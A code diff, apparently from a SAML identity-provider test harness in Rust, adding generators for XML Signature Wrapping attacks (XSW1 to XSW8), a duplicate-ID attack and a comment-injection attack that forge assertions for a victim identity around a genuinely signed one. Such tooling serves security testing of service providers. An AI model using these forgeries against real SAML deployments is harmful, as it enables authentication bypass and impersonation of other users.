@@ -360,69 +360,203 @@ pub(crate) fn respond(
         Some(Attack::SamlUnknownKey) => Some(&idp.rogue),
         _ => Some(idp.key()),
     };
-    // Wrapping needs a signed assertion to wrap, whatever the target's
-    // placement: the response around it stays unsigned.
     // An SP whose metadata sets `WantAssertionsSigned` gets its
     // assertions signed too (SAML metadata §2.4.4).
     let wants_assertion_signed = settings
         .sp
         .as_ref()
         .is_some_and(|sp| sp.want_assertions_signed && sp.entity_id == addressing.audience);
-    let placement = match (attack, settings.signature) {
-        (Some(Attack::SamlSignatureWrapping), _) => SignaturePlacement::Assertion,
-        (_, SignaturePlacement::Response) if wants_assertion_signed => SignaturePlacement::Both,
-        (_, placement) => placement,
+    // Each wrapping shape needs the signature where the paper puts it,
+    // whatever the target's placement: XSW1 and XSW2 wrap a signed
+    // response, the others a signed assertion in an unsigned response.
+    let wrapping = attack.filter(|a| a.has_victim());
+    let placement = match (wrapping, settings.signature) {
+        (Some(Attack::SamlXsw1 | Attack::SamlXsw2), _) => SignaturePlacement::Response,
+        (Some(_), _) => SignaturePlacement::Assertion,
+        (None, SignaturePlacement::Response) if wants_assertion_signed => SignaturePlacement::Both,
+        (None, placement) => placement,
     };
     let assertion_signer = signer.filter(|_| placement.signs_assertion());
     let response_signer = signer.filter(|_| placement.signs_response());
-    let genuine = match assertion_signer {
+    let evil = victim.map(|victim| AssertionParts {
+        id: format!("_a{}", hex_id()),
+        identity: victim.clone(),
+        ..assertion.clone()
+    });
+    // The comment variant signs a join key that extends the victim's.
+    let cut = match (attack, victim) {
+        (Some(Attack::SamlCommentInjection), Some(Identity::EduConnect { ref_ids, .. })) => {
+            ref_ids.first().map(|victim_key| {
+                if let Identity::EduConnect { ref_ids, .. } = &mut assertion.identity {
+                    *ref_ids = vec![format!("{victim_key}{COMMENT_TAIL}")];
+                }
+                escape_xml(victim_key)
+            })
+        }
+        _ => None,
+    };
+    let mut genuine = match assertion_signer {
         Some(key) => sign(&assertion.to_xml(Some(key)), key)?,
         None => assertion.to_xml(None),
     };
-    let mut carried = Vec::new();
-    if attack == Some(Attack::SamlSignatureWrapping) {
-        // The evil assertion goes first, next to the untouched signed one.
-        let evil = AssertionParts {
-            id: format!("_a{}", hex_id()),
-            identity: victim.cloned().unwrap_or_else(|| identity.clone()),
-            ..assertion.clone()
-        };
-        carried.push(evil.to_xml(None));
+    if let Some(victim_key) = cut {
+        genuine = genuine.replacen(
+            &format!(">{victim_key}{COMMENT_TAIL}<"),
+            &format!(">{victim_key}<!---->{COMMENT_TAIL}<"),
+            1,
+        );
     }
-    carried.push(genuine);
+    let (extensions, carried) = match (wrapping, &evil) {
+        (Some(Attack::SamlXsw1 | Attack::SamlXsw2 | Attack::SamlCommentInjection) | None, _)
+        | (_, None) => (None, vec![genuine]),
+        (Some(shape), Some(evil)) => wrap(shape, &genuine, evil),
+    };
     let encryption = settings.encryption_for(&addressing.audience);
-    let body = match encryption {
-        Some(to) => carried
-            .iter()
-            .map(|clear| super::encrypt::encrypt_assertion(clear, to, &addressing.audience))
-            .collect::<Result<String, _>>()?,
-        None => carried.concat(),
+    let seal = |clear: &[String]| -> Result<String, IdpError> {
+        match encryption {
+            Some(to) => clear
+                .iter()
+                .map(|one| super::encrypt::encrypt_assertion(one, to, &addressing.audience))
+                .collect(),
+            None => Ok(clear.concat()),
+        }
+    };
+    let response = |id: &str, before_status: &str, body: &str| {
+        format!(
+            r#"<samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion" ID="{id}" Version="2.0" IssueInstant="{instant}" Destination="{destination}" InResponseTo="{irt}"><saml:Issuer>{issuer}</saml:Issuer>{before_status}<samlp:Status><samlp:StatusCode Value="urn:oasis:names:tc:SAML:2.0:status:Success"/></samlp:Status>{body}</samlp:Response>"#,
+            instant = instant(assertion.issue_instant),
+            destination = escape_xml(&destination),
+            irt = escape_xml(&addressing.in_response_to),
+            issuer = escape_xml(&issuer),
+        )
     };
     let id = format!("_r{}", hex_id());
-    let document = format!(
-        r#"<samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion" ID="{id}" Version="2.0" IssueInstant="{instant}" Destination="{destination}" InResponseTo="{irt}"><saml:Issuer>{issuer}</saml:Issuer>{signature}<samlp:Status><samlp:StatusCode Value="urn:oasis:names:tc:SAML:2.0:status:Success"/></samlp:Status>{body}</samlp:Response>"#,
-        instant = instant(assertion.issue_instant),
-        destination = escape_xml(&destination),
-        irt = escape_xml(&addressing.in_response_to),
-        issuer = escape_xml(&issuer),
-        signature = response_signer
-            .map(|key| signature_template(&id, key))
-            .unwrap_or_default(),
-    );
+    let signature = response_signer
+        .map(|key| signature_template(&id, key))
+        .unwrap_or_default();
+    let extensions = extensions
+        .map(|inner| format!("<samlp:Extensions>{inner}</samlp:Extensions>"))
+        .unwrap_or_default();
+    let document = response(&id, &format!("{signature}{extensions}"), &seal(&carried)?);
     // libxmlsec1 signs the first `Signature` template of the document in
     // document order: the response's, which precedes the assertions.
-    let xml = match response_signer {
+    let mut xml = match response_signer {
         Some(key) => sign(&document, key)?,
         None => document,
     };
+    let mut cleartext = carried;
+    if let (Some(shape @ (Attack::SamlXsw1 | Attack::SamlXsw2)), Some(evil)) = (wrapping, evil) {
+        // A new response for the victim around the signed original.
+        let (original, signature) = split_signature(&xml);
+        let around = match shape {
+            Attack::SamlXsw1 => inside_signature(&signature, &original),
+            _ => format!("{original}{signature}"),
+        };
+        let evil = evil.to_xml(None);
+        xml = response(
+            &format!("_r{}", hex_id()),
+            &around,
+            &seal(std::slice::from_ref(&evil))?,
+        );
+        cleartext.push(evil);
+    }
     Ok(Issued {
         xml,
         cleartext: if encryption.is_some() {
-            carried
+            cleartext
         } else {
             Vec::new()
         },
     })
+}
+
+/// What the comment variant appends to the victim's join key.
+const COMMENT_TAIL: &str = ".entconf";
+
+/// An assertion-level wrapping `shape` of the signed `genuine` assertion
+/// and the unsigned `evil` one: what goes in the response's `Extensions`,
+/// and its assertions in order.
+fn wrap(shape: Attack, genuine: &str, evil: &AssertionParts) -> (Option<String>, Vec<String>) {
+    let unsigned = evil.to_xml(None);
+    let (bare, signature) = split_signature(genuine);
+    match shape {
+        Attack::SamlXsw4 => (None, vec![inside_element(&unsigned, genuine)]),
+        Attack::SamlXsw5 => (None, vec![after_issuer(&unsigned, &signature), bare]),
+        Attack::SamlXsw6 => (
+            None,
+            vec![after_issuer(
+                &unsigned,
+                &inside_signature(&signature, &bare),
+            )],
+        ),
+        Attack::SamlXsw7 => (Some(genuine.to_owned()), vec![unsigned]),
+        Attack::SamlXsw8 => (
+            None,
+            vec![after_issuer(
+                &unsigned,
+                &inside_signature(&signature, &format!("<ds:Object>{bare}</ds:Object>")),
+            )],
+        ),
+        Attack::SamlDuplicateId => {
+            let twin = AssertionParts {
+                id: genuine_id(genuine).unwrap_or_else(|| evil.id.clone()),
+                ..evil.clone()
+            };
+            (None, vec![twin.to_xml(None), genuine.to_owned()])
+        }
+        // XSW3.
+        _ => (None, vec![unsigned, genuine.to_owned()]),
+    }
+}
+
+/// `xml` without its first `ds:Signature` element, and that element.
+fn split_signature(xml: &str) -> (String, String) {
+    let Some(start) = xml.find("<ds:Signature") else {
+        return (xml.to_owned(), String::new());
+    };
+    let close = "</ds:Signature>";
+    let Some(end) = xml[start..].find(close).map(|at| start + at + close.len()) else {
+        return (xml.to_owned(), String::new());
+    };
+    (
+        format!("{}{}", &xml[..start], &xml[end..]),
+        xml[start..end].to_owned(),
+    )
+}
+
+/// `signature` with `content` as its last child.
+fn inside_signature(signature: &str, content: &str) -> String {
+    match signature.strip_suffix("</ds:Signature>") {
+        Some(open) => format!("{open}{content}</ds:Signature>"),
+        None => signature.to_owned(),
+    }
+}
+
+/// The element `outer` with `content` as its last child.
+fn inside_element(outer: &str, content: &str) -> String {
+    match outer.rfind("</") {
+        Some(at) => format!("{}{content}{}", &outer[..at], &outer[at..]),
+        None => outer.to_owned(),
+    }
+}
+
+/// The assertion `assertion` with `content` right after its `Issuer`.
+fn after_issuer(assertion: &str, content: &str) -> String {
+    let close = "</saml:Issuer>";
+    match assertion.find(close) {
+        Some(at) => {
+            let cut = at + close.len();
+            format!("{}{content}{}", &assertion[..cut], &assertion[cut..])
+        }
+        None => assertion.to_owned(),
+    }
+}
+
+/// The `ID` of the first element of `xml`.
+fn genuine_id(xml: &str) -> Option<String> {
+    let start = xml.find(" ID=\"")? + 5;
+    let end = xml[start..].find('"')? + start;
+    Some(xml[start..end].to_owned())
 }
 
 /// `xml` with its first signature template filled by `key`, without the
